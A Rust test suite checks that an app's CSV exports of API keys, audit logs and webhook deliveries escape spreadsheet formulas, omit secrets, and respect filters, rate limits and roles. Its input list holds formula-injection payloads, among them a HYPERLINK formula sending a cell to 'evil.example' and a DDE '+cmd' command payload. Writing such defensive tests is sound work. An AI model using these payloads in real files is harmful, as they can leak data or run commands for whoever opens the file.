//! Lists as files, opened by a spreadsheet that a stranger's names must not program.

use std::time::Duration;

use keybell_app::downloads::DOWNLOADS_PER_WORKSPACE_MAX;
use keybell_core::{Role, WorkspaceId};
use keybell_testkit::app::{Answer, TestApp};
use serde_json::{Value, json};

use super::browser::Browser;

/// What somebody may call a thing: text that spreadsheets, CSV or a reader could take for something else.
const HOSTILE: [&str; 9] = [
    "=HYPERLINK(\"https://evil.example/?\"&A1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "＝1+1",
    "a,\"b\";c",
    "a;=1+1;b",
    "\u{202e}fdp.exe",
    "🔑 été",
];

/// An owner's browser in a new workspace, and the workspace's id.
async fn at_home(app: &TestApp) -> (String, Browser<'_>) {
    let workspace = app.workspace("Evergreen").await;
    let token = app.member(&workspace, Role::Owner).await;
    (workspace, Browser::signed_in(app, &token))
}

/// The rows of a file, its line of names first.
#[track_caller]
fn rows(answer: &Answer, name: &str) -> Vec<Vec<String>> {
    assert_eq!(answer.status, 200, "{}", answer.text());
    assert_eq!(answer.header("content-type"), "text/csv; charset=utf-8");
    assert_eq!(
        answer.header("content-disposition"),
        format!("attachment; filename=\"{name}-2026-11-23.csv\"")
    );
    assert_eq!(answer.header("cache-control"), "no-store");
    assert!(answer.text().ends_with("\"\r\n"), "{}", answer.text());
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(answer.body.as_ref());
    let rows = reader.records().map(|row| row.expect("rows are equally long"));
    rows.map(|row| row.iter().map(str::to_owned).collect()).collect()
}

/// The column of that name.
fn column(rows: &[Vec<String>], name: &str) -> Vec<String> {
    let index = rows[0].iter().position(|known| known == name).expect("there is one of that name");
    rows[1..].iter().map(|row| row[index].clone()).collect()
}

#[track_caller]
fn begins_no_formula(rows: &[Vec<String>]) {
    for cell in rows.iter().flatten() {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝']), "{cell:?}");
    }
}

/// A key that is newer than those before it.
async fn key(app: &TestApp, workspace: &str, key: Value) -> Value {
    app.clock.advance(Duration::from_secs(1));
    app.operator().post(&format!("/v1/workspaces/{workspace}/api-keys"), key).await.done(201)
}

#[tokio::test]
async fn keys_are_downloaded_as_they_are_listed_and_no_name_is_a_formula() {
    let app = TestApp::start().await;
    let (workspace, mut browser) = at_home(&app).await;
    let list = format!("/w/{workspace}/settings/advanced/developer/api-keys");
    assert!(!browser.open(&list).await.is(200).offers("Download"), "there is nothing to download");
    let mut secrets = Vec::new();
    for name in HOSTILE {
        let body = json!({
            "name": name, "description": format!("{name}\nand a second line"), "scopes": ["keybell:keys.read"],
            "allowed_networks": ["203.0.113.0/24", "2001:db8::/32"], "expires_at": "2027-01-01T00:00:00Z",
        });
        let made = key(&app, &workspace, body).await;
        secrets.push(made["secret_key"].as_str().expect("it is new").to_owned());
    }
    let page = browser.open(&list).await.is(200);
    let file = browser.open(&page.link("Download CSV")).await.is(200);
    let read = rows(&file.answer, "api-keys");
    begins_no_formula(&read);
    let names = column(&read, "name");
    let mut expected = HOSTILE.map(|name| {
        let begins = name.starts_with(['=', '+', '-', '@', '＝']);
        if begins { format!("'{name}") } else { name.replace(";=", ";'=") }
    });
    expected.reverse();
    assert_eq!(names, expected, "newest first, each as it was written");
    let description = &column(&read, "description")[8];
    assert_eq!(description, &format!("'{}\nand a second line", HOSTILE[0]));
    assert_eq!(column(&read, "allowed_networks")[0], "203.0.113.0/24 2001:db8::/32");
    assert_eq!(column(&read, "created_at")[8], "2026-11-23T12:00:01.000Z");
    assert_eq!(column(&read, "expires_at")[0], "2027-01-01T00:00:00.000Z");
    assert!(secrets.iter().all(|secret| !file.answer.text().contains(secret.as_str())));
}

#[tokio::test]
async fn a_file_has_what_its_filter_means_and_says_what_it_does_not_understand() {
    let app = TestApp::start().await;
    let (workspace, mut browser) = at_home(&app).await;
    let developer = format!("/w/{workspace}/settings/advanced/developer");
    for name in ["Import", "Export", "Reimport"] {
        key(&app, &workspace, json!({ "name": name })).await;
    }
    let page = browser.open(&format!("{developer}/api-keys?q=import&status=active")).await.is(200);
    let file = browser.open(&page.link("Download CSV")).await.is(200);
    assert_eq!(column(&rows(&file.answer, "api-keys"), "name"), ["Reimport", "Import"]);
    for odd in [
        format!("{developer}/api-keys.csv?status=gone"),
        format!("{developer}/api-keys.csv?environment=gone"),
        format!("{developer}/deliveries.csv?status=gone"),
        format!("{developer}/deliveries.csv?webhook_id=x"),
        format!("/w/{workspace}/settings/advanced/audit-log.csv?from=soon"),
    ] {
        browser.open(&odd).await.is(422);
    }
    browser.open(&format!("{developer}/api-keys.csv?cursor=x")).await.is(400);
}

#[tokio::test]
async fn the_audit_log_is_downloaded_whole_and_what_people_wrote_stays_text() {
    let app = TestApp::start().await;
    let (workspace, mut browser) = at_home(&app).await;
    let path = format!("/v1/workspaces/{workspace}");
    for number in 0..260 {
        app.operator().patch(&path, json!({ "name": format!("Name {number}") })).await.done(200);
    }
    app.clock.advance(Duration::from_mins(1));
    app.operator().patch(&path, json!({ "name": "=1+1, \"two\"" })).await.done(200);
    let log = format!("/w/{workspace}/settings/advanced/audit-log");
    let page = browser.open(&format!("{log}?action=workspace.edited")).await.is(200);
    let file = browser.open(&page.link("Download CSV")).await.is(200);
    let read = rows(&file.answer, "audit-log");
    begins_no_formula(&read);
    assert_eq!(read.len(), 1 + 261, "more than a page of the list, and than one read of it");
    assert_eq!(column(&read, "at")[0], "2026-11-23T12:01:00.000Z");
    assert_eq!(column(&read, "target_id")[0], workspace);
    let changes: Value = serde_json::from_str(&column(&read, "changes")[0]).expect("it is JSON");
    assert_eq!(changes["name"]["to"], "=1+1, \"two\"");

    let lately = browser.open(&format!("{log}.csv?from=2026-11-23T12:01")).await.is(200);
    assert_eq!(rows(&lately.answer, "audit-log").len(), 1 + 1);
    let older = page.link("Older");
    let older = older.split("cursor=").nth(1).expect("there is more");
    let rest = browser.open(&format!("{log}.csv?action=workspace.edited&cursor={older}")).await.is(200);
    assert_eq!(rows(&rest.answer, "audit-log").len(), 1 + 211, "a file goes on where another ended");
}

#[tokio::test]
async fn deliveries_are_downloaded_without_what_they_carried() {
    let app = TestApp::start().await;
    let (workspace, mut browser) = at_home(&app).await;
    app.operator().post("/v1/event-types", json!({ "name": "portfolio.updated" })).await.done(201);
    let path = format!("/v1/workspaces/{workspace}");
    for (name, events) in [("@SUM(1)", "portfolio.*"), ("Other", "portfolio.updated")] {
        let webhook = json!({ "name": name, "url": "http://127.0.0.1:9/", "events": [events] });
        app.operator().post(&format!("{path}/webhooks"), webhook).await.done(201);
    }
    let event = json!({ "type": "portfolio.updated", "data": { "note": "confidential" }, "id": "-1-2" });
    app.operator().post(&format!("{path}/events"), event).await.done(202);
    let list = format!("/w/{workspace}/settings/advanced/developer/deliveries");
    let page = browser.open(&format!("{list}?status=pending")).await.is(200);
    let file = browser.open(&page.link("Download CSV")).await.is(200);
    let read = rows(&file.answer, "deliveries");
    begins_no_formula(&read);
    assert_eq!((read.len(), column(&read, "event_id")), (3, vec!["'-1-2".to_owned(); 2]));
    assert!(column(&read, "webhook_name").contains(&"'@SUM(1)".to_owned()));
    assert_eq!((&*column(&read, "status")[0], &*column(&read, "attempts_made")[0]), ("pending", "0"));
    assert!(!file.answer.text().contains("confidential"));
    assert_eq!(rows(&browser.open(&format!("{list}.csv?status=failed")).await.answer, "deliveries").len(), 1);
}

#[tokio::test]
async fn what_lies_further_back_than_one_look_is_in_the_file_too() {
    let app = TestApp::start().await;
    let (workspace, mut browser) = at_home(&app).await;
    for name in ["portfolio.updated", "portfolio.closed"] {
        app.operator().post("/v1/event-types", json!({ "name": name })).await.done(201);
    }
    let path = format!("/v1/workspaces/{workspace}");
    let webhook = json!({ "name": "Warehouse", "url": "http://127.0.0.1:9/", "events": ["*"] });
    let webhook = app.operator().post(&format!("{path}/webhooks"), webhook).await.done(201);
    let rare = json!({ "type": "portfolio.closed", "data": {}, "id": "rare" });
    app.operator().post(&format!("{path}/events"), rare).await.done(202);
    // More than are looked at at once among those of one webhook.
    let event = json!({ "workspace": workspace, "type": "portfolio.updated", "data": {} });
    for _ in 0..2 {
        app.clock.advance(Duration::from_secs(1));
        app.operator().post("/v1/events/batch", json!({ "events": vec![&event; 1_000] })).await.done(202);
    }
    let filter = format!("webhook_id={}&event_type=portfolio.closed", webhook["id"].as_str().expect("an id"));
    let list = format!("/w/{workspace}/settings/advanced/developer/deliveries");
    let page = browser.open(&format!("{list}?{filter}")).await.is(200);
    assert!(page.text().contains("No delivery since"), "one look finds none: {}", page.text());
    let file = browser.open(&page.link("Download CSV")).await;
    assert_eq!(column(&rows(&file.answer, "deliveries"), "event_id"), ["rare"]);
}

#[tokio::test]
async fn a_download_past_those_that_may_be_at_once_is_told_when_to_come_again() {
    let app = TestApp::start().await;
    let (workspace, mut browser) = at_home(&app).await;
    let file = format!("/w/{workspace}/settings/advanced/developer/api-keys.csv");
    for _ in 0..=DOWNLOADS_PER_WORKSPACE_MAX {
        browser.open(&file).await.is(200);
    }
    let workspace = WorkspaceId::parse(&workspace).expect("it is an id");
    let mut begun: Vec<_> =
        (1..DOWNLOADS_PER_WORKSPACE_MAX).map(|_| app.app.begin_download(workspace)).collect();
    browser.open(&file).await.is(200);
    begun.push(app.app.begin_download(workspace));
    let full = browser.open(&file).await.is(429);
    assert!(full.text().contains("Too many downloads are running."), "{}", full.text());
    assert_eq!(full.answer.header("retry-after"), "5");
    drop(begun);
    browser.open(&file).await.is(200);
}

#[tokio::test]
async fn a_file_is_for_whoever_may_see_the_list() {
    let app = TestApp::start().await;
    let workspace = app.workspace("Evergreen").await;
    key(&app, &workspace, json!({ "name": "Import" })).await;
    let guest = app.member(&workspace, Role::Guest).await;
    let mut guest = Browser::signed_in(&app, &guest);
    let developer = format!("/w/{workspace}/settings/advanced/developer");
    for list in ["api-keys", "deliveries"] {
        guest.open(&format!("{developer}/{list}.csv")).await.is(200);
    }
    guest.open(&format!("/w/{workspace}/settings/advanced/audit-log.csv")).await.is(403);
}
